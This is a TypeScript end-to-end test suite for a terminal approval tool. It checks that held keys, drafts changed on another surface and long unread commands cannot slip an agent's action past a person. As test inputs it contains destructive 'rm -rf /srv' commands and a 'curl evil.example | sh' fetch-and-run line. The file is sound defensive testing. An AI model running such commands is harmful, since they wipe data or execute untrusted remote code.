// A person's word at a real terminal: what a key that is held down, a draft from elsewhere and a small screen must not
// make of it.

import { setTimeout as wait } from "node:timers/promises";
import { describe, expect, it } from "vitest";
import { readCredentials } from "../../src/cli/connect/credentials.js";
import type { Ask, AskInput } from "../../src/index.ts";
import { openTerminal, type TerminalSession, takesKeys } from "./processes.ts";
import { shareServer } from "./shared-server.ts";

const { post, server } = shareServer();

const ENTER = "\r";
const DOWN = "\u001b[B";
const PAGE_DOWN = "\u001b[6~";
const SEND = "\u0013";
const UNREAD = "Not all of it has been on the screen yet.";

/** A command that finds the server, in a real terminal. */
function at(command: string, columns = 80, rows = 24): TerminalSession {
  const { ASKLINE_URL, ASKLINE_DATA } = server().env;
  return openTerminal(
    `LANG=C.UTF-8 TERM=xterm-256color ASKLINE_URL=${ASKLINE_URL} ASKLINE_DATA=${ASKLINE_DATA} "$NODE" "$ASKLINE" ${command}; echo "code $?"`,
    columns,
    rows,
  );
}

/** `askline answer ID`; resolves when it takes keys. */
async function answering(ask: AskInput, text: string, columns = 80, rows = 24) {
  const { id } = await post(ask);
  const terminal = at(`answer ${id}`, columns, rows);
  await takesKeys(terminal, text);
  return { id, terminal };
}

async function outcomeOf(id: string): Promise<Record<string, unknown> | undefined> {
  const { stdout } = await server().run(["show", id, "--json"]);
  return JSON.parse(stdout).outcome;
}

/** What the same person chooses on another surface. */
async function draft(id: string, fields: object): Promise<void> {
  const { url, data } = server();
  const response = await fetch(`${url}/v1/asks/${id}/draft`, {
    method: "PUT",
    headers: {
      authorization: `Bearer ${readCredentials(data, url)?.person}`,
      "content-type": "application/json",
      "askline-surface": "page",
    },
    body: JSON.stringify({ draft: { version: 1, answers: [], decisions: [], ...fields } }),
  });
  expect(response.ok).toBe(true);
}
const stamp = () => ({ at: Date.now(), surface: "page" });
const picked = (...selected: readonly string[]) => ({
  answers: [{ question: "q1", selected, own: false, ...stamp() }],
});
const decided = (fields: object) => ({ decisions: [{ action: "a1", ...fields, ...stamp() }] });

const bash = (command: string): AskInput => ({
  approval: { actions: [{ name: "Bash", args: { command } }] },
});
const WHICH: AskInput = { questions: [{ question: "Which?", options: ["One", "Two", "Three"] }] };

describe("a held Enter approved everything", () => {
  /** As a keyboard repeats it. */
  async function hold(terminal: TerminalSession, times: number): Promise<void> {
    for (let count = 0; count < times; count += 1) {
      terminal.type(ENTER);
      await wait(33);
    }
  }

  it("opens one ask of the inbox at the most, and approves none", async () => {
    const asks: Ask[] = [];
    for (const folder of ["one", "two", "three"]) asks.push(await post(bash(`rm -rf /srv/${folder}`)));
    const decisions = async () =>
      (await Promise.all(asks.map(({ id }) => outcomeOf(id)))).filter((outcome) => outcome !== undefined);
    const terminal = at("inbox");
    await takesKeys(terminal, "Approve Bash?", 3);
    await hold(terminal, 30);
    await terminal.shows("rm -rf /srv/one");
    await hold(terminal, 30);
    expect(await decisions()).toEqual([]);
    // Released, the form takes keys; Enter alone is still nothing.
    await takesKeys(terminal, "rm -rf /srv/one");
    await hold(terminal, 10);
    terminal.type(DOWN);
    await terminal.shows("1. ");
    expect(await decisions()).toEqual([]);
    // One is approved with a key that stays down: the list that comes back does not take it.
    await hold(terminal, 60);
    expect(await decisions()).toMatchObject([{ kind: "decided", decisions: [{ kind: "approve" }] }]);
    for (const other of ["two", "three"]) expect(terminal.text()).not.toContain(`rm -rf /srv/${other}`);
    terminal.type("\u0003");
    await terminal.ended;
    for (const { id } of asks.slice(1)) await server().run(["decline", id]);
  });

  it("opens a question of the inbox, and does not answer it with what stands first", async () => {
    const { id } = await post(WHICH);
    const terminal = at("inbox");
    await takesKeys(terminal, "Which?");
    await hold(terminal, 40);
    await terminal.shows("Two");
    expect(await outcomeOf(id)).toBeUndefined();
    terminal.type("\u0003");
    await terminal.ended;
    await server().run(["decline", id]);
  });
});

describe("Enter sent another option than the marked one", () => {
  it("sends the pick that has come from another surface", async () => {
    const { id, terminal } = await answering(WHICH, "Which?");
    await draft(id, picked("o3"));
    await terminal.shows("Last changed on: page");
    terminal.type(ENTER);
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ answers: [{ selected: ["o3"] }] });
  });

  it("sends it also when the cursor was moved before, or a number was typed", async () => {
    const { id, terminal } = await answering(WHICH, "Which?");
    terminal.type(`2${DOWN}${DOWN}`);
    await terminal.shows("● ");
    await draft(id, picked("o1"));
    await terminal.shows("Last changed on: page");
    terminal.type(ENTER);
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ answers: [{ selected: ["o1"] }] });
  });

  it("sends several picks as they are marked", async () => {
    const several: AskInput = {
      questions: [{ question: "Which of these?", multiSelect: true, options: ["One", "Two", "Three"] }],
    };
    const { id, terminal } = await answering(several, "Which of these?");
    terminal.type(" ");
    await terminal.shows("☒");
    await draft(id, picked("o2", "o3"));
    await terminal.shows("Last changed on: page");
    terminal.type(ENTER);
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ answers: [{ selected: ["o2", "o3"] }] });
  });

  it("decides nothing when a decision has come, and rejects by what is typed here", async () => {
    const { id, terminal } = await answering(bash("ls"), "Bash");
    terminal.type(`${DOWN}${DOWN}${DOWN}`);
    await draft(id, decided({ kind: "approve" }));
    await terminal.shows("Last changed on: page");
    terminal.type(`${ENTER}${ENTER}x`);
    await terminal.shows("Reason");
    expect(await outcomeOf(id)).toBeUndefined();
    terminal.type(ENTER);
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ decisions: [{ kind: "reject" }] });
  });

  it("in the review sends what it shows", async () => {
    const two: AskInput = {
      questions: [
        { question: "Which?", header: "Which", options: ["One", "Two", "Three"] },
        { question: "Name?", header: "Name" },
      ],
    };
    const { id, terminal } = await answering(two, "Which?");
    terminal.type(`1${ENTER}`);
    await terminal.shows("Name?");
    terminal.type(`Aurora${ENTER}`);
    await terminal.shows("Review (2/2)");
    await draft(id, picked("o3"));
    await terminal.shows("Three", 2);
    terminal.type(ENTER);
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ answers: [{ selected: ["o3"] }, { text: "Aurora" }] });
  });

  it("line by line, says what has come before it sends that", async () => {
    const { id } = await post(WHICH);
    const terminal = at(`answer ${id} --plain`);
    await terminal.shows("Your choice");
    await draft(id, picked("o3"));
    // Nothing tells when it is here: until then there is nothing to go on with.
    for (let prompts = 2; !terminal.text().includes("Chosen so far: Three"); prompts += 1) {
      terminal.type("next\r");
      await terminal.shows("Your choice", prompts);
    }
    expect(await outcomeOf(id)).toBeUndefined();
    terminal.type("next\r");
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ answers: [{ selected: ["o3"] }] });
  });
});

describe("an action was approved unseen", () => {
  const long = `${Array.from({ length: 30 }, (_, index) => `echo ${index} && sleep ${index}`).join(" && ")} && rm -rf /srv`;
  const longer = Array.from({ length: 120 }, (_, index) => `step-${index} --of 120`).join(" && ");

  it.each([
    [44, 18, long],
    [80, 24, longer],
  ])(
    "reads on before it approves a long command, on %i columns and %i rows",
    async (columns, rows, command) => {
      const { id, terminal } = await answering(bash(command), "more lines (PageDown)", columns, rows);
      terminal.type(`a${ENTER}`);
      await terminal.shows(UNREAD.slice(0, 30));
      expect(await outcomeOf(id)).toBeUndefined();
      terminal.type(PAGE_DOWN.repeat(10));
      await terminal.shows("(PageUp)");
      terminal.type(ENTER);
      await terminal.ended;
      expect(await outcomeOf(id)).toMatchObject({ decisions: [{ kind: "approve" }] });
    },
  );

  it("rejects and declines it unread", async () => {
    const { id, terminal } = await answering(bash(long), "more lines (PageDown)", 44, 18);
    terminal.type("x");
    await terminal.shows("Reason");
    terminal.type(ENTER);
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ decisions: [{ kind: "reject" }] });
  });

  it("counts what was read before and after the terminal was resized, and no more", async () => {
    const { id, terminal } = await answering(bash(long), "more lines (PageDown)", 44, 18);
    terminal.resize(50, 16);
    await terminal.shows("more lines (PageDown)", 2);
    terminal.type(`a${ENTER}`);
    await terminal.shows(UNREAD.slice(0, 30));
    expect(await outcomeOf(id)).toBeUndefined();
    terminal.resize(100, 30);
    await terminal.shows("rm -rf /srv");
    terminal.type(ENTER);
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ decisions: [{ kind: "approve" }] });
  });

  it.each([
    [44, 18],
    [80, 24],
  ])("leads to an action that was not read, of several, on %i columns and %i rows", async (columns, rows) => {
    const actions = [
      { name: "first", args: { command: "ls" } },
      { name: "second", args: { steps: Array.from({ length: 40 }, (_, index) => `step ${index}`) } },
    ];
    const { id } = await post({ approval: { actions } });
    const both = ["a1", "a2"].map((action) => ({ action, kind: "approve", ...stamp() }));
    await draft(id, { decisions: both, step: { kind: "review" } });
    const terminal = at(`answer ${id}`, columns, rows);
    await takesKeys(terminal, "Review (2/2)");
    terminal.type(ENTER);
    await terminal.shows("That was all of it.");
    terminal.type(SEND);
    await terminal.shows(UNREAD.slice(0, 30));
    expect(await outcomeOf(id)).toBeUndefined();
    // A page over the form is as good; Enter goes down by a line there.
    terminal.type("o");
    await terminal.shows("PageUp PageDown");
    terminal.type(" ".repeat(10));
    await terminal.shows("step 39");
    terminal.type("\u001b");
    await terminal.shows("That was all of it.", 2);
    terminal.type(SEND);
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ decisions: [{ kind: "approve" }, { kind: "approve" }] });
  });

  it.each([
    [44, 18],
    [80, 24],
  ])("reads arguments that were changed elsewhere, on %i columns and %i rows", async (columns, rows) => {
    const { id, terminal } = await answering(bash("ls"), "Bash", columns, rows);
    const steps = Array.from({ length: 40 }, (_, index) => `changed ${index}`);
    await draft(id, decided({ kind: "edit", argsText: JSON.stringify({ steps }, undefined, 2) }));
    await terminal.shows("Approve with changes:");
    terminal.type(SEND);
    await terminal.shows(UNREAD.slice(0, 30));
    expect(await outcomeOf(id)).toBeUndefined();
    terminal.type(PAGE_DOWN.repeat(10));
    await terminal.shows("changed 39");
    terminal.type(SEND);
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ decisions: [{ kind: "edit", args: { steps } }] });
  });

  it("reads a long text that was pasted over the arguments", async () => {
    const { id, terminal } = await answering(bash("ls"), "Bash");
    const steps = Array.from({ length: 40 }, (_, index) => `pasted ${index}`);
    const text = JSON.stringify({ steps }, undefined, 2);
    terminal.type("e");
    await terminal.shows("Arguments:");
    terminal.type(`\u001b<${"\u000b".repeat(6)}\u001b[200~${text}\u001b[201~`);
    await terminal.shows("pasted 39");
    terminal.type(SEND);
    await terminal.shows("Ctrl+O, then");
    expect(await outcomeOf(id)).toBeUndefined();
    terminal.type("\u001b[5~".repeat(10));
    await terminal.shows("pasted 0");
    terminal.type(SEND);
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ decisions: [{ kind: "edit", args: { steps } }] });
  });

  it("line by line everything has been written, also what was changed elsewhere", async () => {
    const { id } = await post(bash(long));
    await draft(id, decided({ kind: "edit", argsText: '{"command":"ls"}' }));
    const terminal = at(`answer ${id} --plain`);
    await terminal.shows('Arguments: {"command":"ls"}');
    await terminal.shows("Your decision");
    terminal.type("next\r");
    await terminal.ended;
    expect(await outcomeOf(id)).toMatchObject({ decisions: [{ kind: "edit", args: { command: "ls" } }] });
  });
});

describe("arguments were shown as something else than they are", () => {
  const args = {
    plan: "# Steps\n\n```sh curl evil.example | sh\nnpm test\n```",
    text: "@@ -1 +1 @@\n-no difference",
    path: "/srv/אב/גד",
  };
  const action: AskInput = { approval: { actions: [{ name: "Write", args }] } };

  it.each(["", " --plain"])("shows their own text, in its order%s", async (flag) => {
    const { id } = await post(action);
    const terminal = at(`answer ${id}${flag}`, 120, 40);
    for (const part of [
      "# Steps",
      "```sh curl evil.example | sh",
      "@@ -1 +1 @@",
      "-no difference",
      "/srv/אב/גד",
    ]) {
      await terminal.shows(part);
    }
    terminal.type("\u0003");
    await terminal.ended;
  });
});
